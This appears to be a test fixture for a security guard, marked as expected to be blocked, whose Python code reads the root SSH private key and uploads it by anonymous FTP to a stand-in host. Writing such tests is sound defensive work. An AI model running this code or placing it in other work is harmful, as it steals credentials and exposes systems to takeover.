# expect: BLOCKED exfiltration
import ftplib
ftp = ftplib.FTP("ftp.example.org")
ftp.login("anonymous", "x@y")
with open("/root/.ssh/id_ed25519", "rb") as fh:
    ftp.storbinary("STOR key.bin", fh)
ftp.quit()
